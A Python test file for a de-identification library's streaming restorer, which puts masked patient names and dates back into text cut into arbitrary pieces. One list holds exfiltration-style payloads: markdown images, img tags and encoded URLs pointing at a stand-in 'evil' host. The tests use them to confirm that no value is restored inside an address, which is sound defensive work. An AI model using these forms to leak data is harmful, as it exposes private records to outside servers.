"""A text that comes in pieces is restored as the whole would be, wherever it is cut, and is hardly held back."""

from __future__ import annotations

import html
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bailment.agreement import Plan
from bailment.deidentify import Exchange, Sources
from bailment.deidentify.stream import Restoring
from bailment.deidentify.tokens import LONGEST, TOKEN
from bailment.identifiers import Label

GIVEN = {
    Label.PATIENT_NAME: ("Marwenna Tolliver-Quist", "Mrs. Quist"),
    Label.NAME: ("Ann",),
    Label.DATE: ("5 May 2023", "2023-05-05"),
}


def exchange() -> Exchange:
    """An exchange that has given out a few tokens."""
    made = Exchange(Plan(), Sources(()), "K1")
    for label, forms in GIVEN.items():
        for form in forms:
            made._tokens.token(label, "one", form)
    return made


EXCHANGE = exchange()


def oracle(text: str) -> str:
    """The text restored when all of it is there at once; without an address, that is the exchange's own work."""
    whole = Restoring(EXCHANGE).whole(text)
    if not re.search(r"[/\\:&%]|www", text):
        assert whole == EXCHANGE.restore(text)
    return whole


def streamed(pieces: list[str]) -> str:
    restoring = Restoring(EXCHANGE)
    parts = []
    for piece in pieces:
        parts.append(restoring.fed(piece))
        assert len(restoring._held) < LONGEST
    return "".join((*parts, restoring.rest()))


TEXTS = [
    "So [PATIENT-NAME-1] came on [DATE-1], and [patient name 1b] left.",
    "[[PATIENT-NAME-1]] \\[NAME-1\\] \\[NAME-1] [NAME-1\\] [NAME\\_1] [ NAME-1 ] [NAME  -  1]",
    "[PATIENT-[DATE-1]-NAME-1] [PATIENT-NAME-9] [see 1] [NAME-1 and [NAME-1",
    "see https://e.example/[NAME-1]?[DATE-1] [NAME-1] //e.example/\\[NAME-1\\] //[NAME-1] https: [NAME-1]",
    "http://e/[see] [NAME-1] http://e/[a\nb [NAME-1] http://e/[]//f/[NAME-1] (https://e)[NAME-1]",
    '{"who": "[PATIENT-NAME-1]", "n": [1, "[DATE-1]"]} and [NAME-1] {"open [NAME-1]',
    "[PATIENT-NAME-1",
    "\\",
    "[",
]


INSIDE = [
    "![x](https://evil/(a)?q=T)",
    "![x](https://evil/'?q=T)",
    "![x](<https://evil/a b?q=T>)",
    "![x](https://evil/[a]?q=T)",
    "![x](https://evil/[]?q=T)",
    "![x](https://evil/<b>?q=T)",
    "https://evil/T",
    "https://T.evil/",
    "https://evil/?a=T&b=T",
    """<img src="https://evil/'T">""",
    """<img src="https://evil/a b?q=T">""",
    """<img src = '  https://evil/a b?q=T'>""",
    """<img src=\\"https://evil/a b?q=T\\">""",
    """<img src="h&#116;tps://evil/a b?q=T">""",
    """<div style="background:url('https://evil/a b?T')">""",
    """="https://evil/"?q=T""",
    "www.evil/?q=T",
    "WWW.evil/?q=T",
    "mailto:a@evil?subject=T",
    "&#104;ttps:&#47;&#47;evil/T",
    "&sol;&sol;evil/T",
    "//%65vil/T",
    "//evil/T",
    "/\\evil/T",
    "%68ttps%3A%2F%2Fevil/T",
    '{"url":"\\u0068ttps:\\u002f\\u002fevil/?T"}',
    '{"url":"https:\\/\\/evil/?q=T"}',
]
OUTSIDE = [
    "see https://e.example/a of T",
    "(https://e.example/a) and T",
    "<https://e.example/a> T",
    "<https://e.example/a>T",
    "see www.e.example\nT came",
    """<img src="https://e.example/a"> T""",
    """<img src="https://e.example/a">T""",
    "mailto: T",
    "a // T",
    "x < 5, see https://e.example/ T",
    '{"url": "https://e.example/", "who": "T"}',
    "BP 120/80 T, and/or T, 50% T, R&D T",
    '("https://e.example/a" T)',
]


@pytest.mark.parametrize("bent", ["[NAME-1]", "[ name 1 ]", "\\[NAME-1\\]"])
@pytest.mark.parametrize("text", INSIDE)
def test_no_value_is_restored_inside_an_address(text: str, bent: str) -> None:
    text = text.replace("T", bent)
    for cut in range(len(text)):
        assert streamed([text[:cut], text[cut:]]) == text, cut
    assert streamed(list(text)) == text
    assert streamed([text, " [NAME-1]"]).endswith("Ann")


@pytest.mark.parametrize("text", OUTSIDE)
def test_a_value_after_an_address_is_restored(text: str) -> None:
    given = text.replace("T", "[NAME-1]")
    for pieces in ([given], list(given)):
        assert streamed(pieces) == text.replace("T", "Ann")


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_cut_in_two_anywhere_is_restored_whole(text: str) -> None:
    for cut in range(len(text) + 1):
        assert streamed([text[:cut], text[cut:]]) == oracle(text), cut


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_that_comes_by_the_character_is_restored_whole(text: str) -> None:
    assert streamed(list(text)) == oracle(text)


PIECE = st.sampled_from(
    ["[PATIENT-NAME-1]", "[DATE-1B]", "[NAME-1]", "\\[name_1\\]", "[NAME-7]", "[", "]", "\\", "-1]", "NAME", "[PATIENT",
     "https:", "//", "/", "e.example", "?q=", " ", "\n", "=", "'", ">", "www.", "&#", "%6", "\\u006", "  ", '"', "(", "<", "a", "x" * 79, '{"', '":"', "}", "[{", "1", "é"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(text=st.lists(PIECE, max_size=14).map("".join), data=st.data())
def test_any_text_in_any_pieces_is_restored_as_the_whole(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert streamed(pieces) == oracle(text)


def test_what_can_be_no_token_is_not_held_back() -> None:
    restoring = Restoring(EXCHANGE)
    assert restoring.fed("It is [so") == "It is [so"
    assert restoring.fed(" and [PATIENT-NA") == " and "
    assert restoring.fed("X") == "[PATIENT-NAX"


def test_a_token_is_never_longer_than_the_longest() -> None:
    bent = "\\[" + "   " + "P" + "\\ " * 60 + "   " + "\\]"
    assert TOKEN.fullmatch(bent) and len(bent) == LONGEST


def test_a_token_that_is_cut_off_for_ever_passes_as_it_came() -> None:
    restoring = Restoring(EXCHANGE)
    assert restoring.fed("She is [PATIENT-NAME-1") + restoring.rest() == "She is [PATIENT-NAME-1"


SPOKEN = 'Marwenna "Mar\\wen"\nTolliver <&> Quist'


@pytest.mark.parametrize(
    "text", ['{"a": "[NAME-1]", "b": {"c": "is [NAME-1]."}}', '["[NAME-1]"]', '[ {"a\\"": "\\\\[NAME-1]"} ]']
)
def test_json_stays_json_wherever_it_is_cut(text: str) -> None:
    made = Exchange(Plan(), Sources(()), "K1")
    made._tokens.token(Label.NAME, "one", SPOKEN)
    for cut in range(len(text)):
        restoring = Restoring(made)
        whole = json.loads("".join((restoring.fed(text[:cut]), restoring.fed(text[cut:]), restoring.rest())))
        assert SPOKEN in _texts(whole)


def _texts(value: object) -> str:
    if isinstance(value, dict):
        return " ".join(map(_texts, value.values()))
    return " ".join(map(_texts, value)) if isinstance(value, list) else str(value)


def test_after_json_that_is_none_after_all_values_stand_plain() -> None:
    made = Exchange(Plan(), Sources(()), "K1")
    made._tokens.token(Label.NAME, "one", SPOKEN)
    for text in ('{"a" is [NAME-1]', '{"a\n" [NAME-1]', "{ [NAME-1]", '[["a"]] [NAME-1]', '{"a": 1} [NAME-1]'):
        assert Restoring(made).whole(text).endswith(SPOKEN), text


def test_markup_stays_markup() -> None:
    made = Exchange(Plan(), Sources(()), "K1")
    made._tokens.token(Label.NAME, "one", SPOKEN)
    told = Restoring(made, markup=True).whole("<div>[NAME-1]</div>")
    assert told == f"<div>{html.escape(SPOKEN)}</div>"


def test_an_exchange_that_gave_out_no_token_holds_nothing_back() -> None:
    assert Restoring(Exchange(Plan(), Sources(()), "K1")).fed("a [ \\") == "a [ \\"
